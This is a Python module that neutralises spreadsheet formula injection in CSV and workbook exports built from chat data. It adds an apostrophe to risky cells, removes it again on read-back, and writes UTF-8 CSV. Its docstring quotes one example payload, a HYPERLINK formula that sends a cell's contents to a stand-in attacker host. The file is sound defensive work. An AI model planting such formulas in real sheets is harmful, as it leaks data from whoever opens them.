"""Spreadsheet cells that cannot run: one writer for every CSV and workbook we produce.

Member names, topic questions and message texts come from chat exports, and an export can carry
``=HYPERLINK("http://evil.example?"&A1,"点我")``. Opened in Excel or WPS, a cell that starts with
a formula character runs; so every cell written by the FAQ sheet, the member segments and the
weekly report passes :func:`safe_cell`, which puts an apostrophe in front (spreadsheets show the
text and hide the apostrophe). The knowledge base takes the apostrophe off again when it reads
such a sheet back, with :func:`unguard`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

# Half-width and full-width: spreadsheet programs that normalise input treat both as formulas.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def safe_cell(value: object) -> object:
    """``value`` as a cell that cannot run as a formula (``None`` as an empty cell)."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return "" if value is None else value


def unguard(text: str) -> str:
    """A cell read back from one of our sheets, without the apostrophe :func:`safe_cell` added."""
    return text[1:] if text.startswith("'") and text[1:].startswith(_FORMULA_STARTS) else text


def csv_text(rows: Iterable[Iterable[object]], *, bom: bool = True) -> str:
    """CSV text (with a BOM, so Excel reads it as UTF-8) of ``rows``, every cell made safe."""
    out = io.StringIO()
    if bom:
        out.write("\ufeff")
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return out.getvalue()
